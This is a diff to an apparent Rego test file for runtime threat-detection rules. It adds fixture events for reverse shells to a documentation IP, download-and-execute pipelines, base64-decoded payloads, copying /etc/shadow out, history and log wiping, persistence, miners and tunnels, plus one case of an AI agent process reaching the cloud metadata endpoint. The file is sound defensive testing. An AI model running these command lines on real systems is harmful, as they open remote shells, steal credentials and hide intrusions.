@@ -185,9 +185,13 @@ test_names_in_a_container_trigger_their_rules if {
 	fires("netcat_in_container", fx.container_exec("/bin/busybox", ["nc", "-lp", "4444"]))
 	fires("container_admin_tool", fx.container_exec("/usr/local/bin/kubectl", ["kubectl", "get", "secrets", "-A"]))
 	fires("network_scanner_in_container", fx.container_exec("/usr/bin/nmap", ["nmap", "-sS", "10.96.0.0/12"]))
+}
+
+test_names_in_a_container_trigger_their_rules_2 if {
 	fires("kernel_module_in_container", fx.container_exec("/usr/bin/kmod", ["insmod", "/tmp/r.ko"]))
 	fires("package_manager_in_container", fx.container_exec("/usr/bin/python3.12", ["python3", "-m", "pip", "install", "x"]))
 }
+
 
 test_container_escape_triggers if {
 	fires("container_escape", fx.container_exec("/usr/bin/nsenter", ["nsenter", "-t", "1", "-m", "--", "bash"]))
@@ -199,13 +203,20 @@ test_tools_anywhere_trigger_their_rules if {
 	fires("tunnel_tool", fx.host_exec("/tmp/chisel", ["/tmp/chisel", "client", "203.0.113.7:8000", "R:socks"]))
 	fires("crypto_miner", fx.host_exec("/opt/xmrig", ["xmrig", "-c", "config.json"]))
 	fires("crypto_miner", fx.host_exec("/tmp/kswapd0", ["kswapd0", "-o", "stratum+tcp://203.0.113.7:3333"]))
+}
+
+test_tools_anywhere_trigger_their_rules_2 if {
 	fires("crypto_miner", fx.host_exec("/tmp/s", ["s", "--url=gulf.moneroocean.stream:10128"]))
 }
+
 
 test_reverse_shells_trigger if {
 	fires("reverse_shell", fx.host_exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]))
 	fires("reverse_shell", fx.host_exec("/bin/sh", ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"]))
 	fires("reverse_shell", fx.host_exec("/usr/bin/ncat", ["ncat", "203.0.113.7", "4444", "-e", "/bin/sh"]))
+}
+
+test_reverse_shells_trigger_2 if {
 	fires("reverse_shell", fx.host_exec("/usr/bin/socat", ["socat", "EXEC:bash -li,pty,stderr", "TCP:203.0.113.7:4444"]))
 	fires("reverse_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"]))
 }
@@ -215,11 +226,31 @@ test_shell_scripts_trigger_their_rules if {
 	fires("download_piped_to_shell", fx.container_exec("/bin/busybox", ["sh", "-c", "wget -qO- http://203.0.113.7/i | sh"]))
 	fires("decoded_payload_to_shell", fx.host_exec("/bin/sh", ["sh", "-c", "echo aWQK | base64 -d | bash"]))
 	fires("decoded_payload_to_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"]))
-	fires("history_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", "unset HISTFILE"]))
+}
+
+test_shell_scripts_trigger_their_rules_2 if {
+	fires("history_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", "history -c"]))
+	fires("history_disabled", fx.host_exec("/usr/bin/bash", ["bash", "-c", "unset HISTFILE"]))
+	fires("history_disabled", fx.host_exec("/usr/bin/env", ["env", "HISTSIZE=0", "bash"]))
+}
+
+test_shell_scripts_trigger_their_rules_3 if {
+	fires("cron_job_created", fx.host_exec("/bin/sh", ["sh", "-c", "echo x >> /etc/crontab"]))
+	fires("shell_script_from_writable_dir", fx.container_exec("/bin/busybox", ["busybox", "sh", "/tmp/x.sh"]))
+	fires("python_script_from_writable_dir", fx.host_exec("/usr/bin/python3.12", ["python3", "/dev/shm/x.py"]))
+}
+
+test_shell_scripts_trigger_their_rules_4 if {
+	fires("download_piped_to_shell", fx.host_exec("/bin/sh", ["sh", "-c", "curl -o /tmp/x http://203.0.113.7/x && chmod +x /tmp/x"]))
+	fires("process_memory_read", fx.host_exec("/bin/sh", ["sh", "-c", "dd if=/proc/$PID/mem of=/tmp/m"]))
 	fires("history_tampering", fx.host_exec("/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"]))
+}
+
+test_shell_scripts_trigger_their_rules_5 if {
 	fires("log_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", ": > /var/log/syslog"]))
 	fires("log_tampering", fx.host_exec("/usr/bin/shred", ["shred", "-u", "/var/log/auth.log"]))
 }
+
 
 test_shell_under_a_service_triggers if {
 	ev := fx.with_ancestors(fx.container_exec("/bin/dash", ["sh", "-c", "id"]), ["/usr/sbin/php-fpm8.2"])
@@ -245,6 +276,50 @@ test_ai_agent_rules_trigger if {
 	curl := fx.with_ancestors(fx.host_connect("::ffff:169.254.169.254", 80), ["/usr/bin/bash", "/usr/local/bin/claude"])
 	fires("ai_agent_metadata", curl)
 }
+
+test_environment_rules_trigger if {
+	preload := fx.with_process(fx.host_exec("/usr/bin/id", ["id"]), {"env": {"LD_PRELOAD": "/tmp/x.so"}})
+	fires("loader_hijack", preload)
+	nohist := fx.with_process(fx.host_exec("/usr/bin/bash", ["bash"]), {"env": {"HISTFILE": "/dev/null"}})
+	fires("history_disabled", nohist)
+	not triggers.triggered({"triggers": [{"env": ["LD_PRELOAD"]}]}) with input as nohist
+	not triggers.triggered({"triggers": [{"env": ["LD_PRELOAD"]}]}) with input as exec("/usr/bin/id", ["id"])
+}
+
+test_tool_rules_trigger if {
+	fires("cron_job_created", fx.host_exec("/usr/bin/crontab", ["crontab", "/tmp/c"]))
+	fires("at_job_created", fx.host_exec("/usr/bin/at", ["at", "now"]))
+	fires("systemd_timer_created", fx.host_exec("/usr/bin/systemd-run", ["systemd-run", "--on-active=5", "id"]))
+}
+
+test_tool_rules_trigger_2 if {
+	fires("account_created", fx.container_exec("/bin/busybox", ["busybox", "adduser", "-D", "x"]))
+	fires("account_modified", fx.host_exec("/usr/sbin/usermod", ["usermod", "-aG", "sudo", "x"]))
+	fires("setuid_bit_set", fx.host_exec("/usr/bin/chmod", ["chmod", "4755", "/tmp/x"]))
+}
+
+test_tool_rules_trigger_3 if {
+	fires("setuid_program_unexpected", fx.with_process(fx.host_exec("/tmp/x", ["x"]), {"uid": 1000, "euid": 0}))
+	fires("process_memory_read", fx.host_exec("/usr/bin/gdb", ["gdb", "-p", "1"]))
+	fires("file_transfer_out", fx.host_exec("/usr/bin/scp", ["scp", "/etc/shadow", "h:/tmp"]))
+}
+
+test_tool_rules_trigger_4 if {
+	fires("http_file_server", fx.host_exec("/usr/bin/python3", ["python3", "-m", "http.server"]))
+	fires("http_file_server", fx.container_exec("/bin/busybox", ["busybox", "httpd", "-f"]))
+	fires("tunnel_tool", fx.host_exec("/usr/local/bin/cloudflared", ["cloudflared", "tunnel"]))
+}
+
+test_tool_rules_trigger_5 if {
+	fires("reverse_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]))
+	fires("reverse_shell", fx.host_exec("/usr/bin/awk", ["awk", "BEGIN{system(\"/bin/sh\")}"]))
+	fires("netcat_in_container", fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "1"]))
+}
+
+test_tool_rules_trigger_6 if {
+	fires("reverse_shell", fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "1"]))
+}
+
 
 test_network_rules_trigger if {
 	fires("metadata_from_workload", fx.container_connect("::ffff:169.254.169.254", 80))
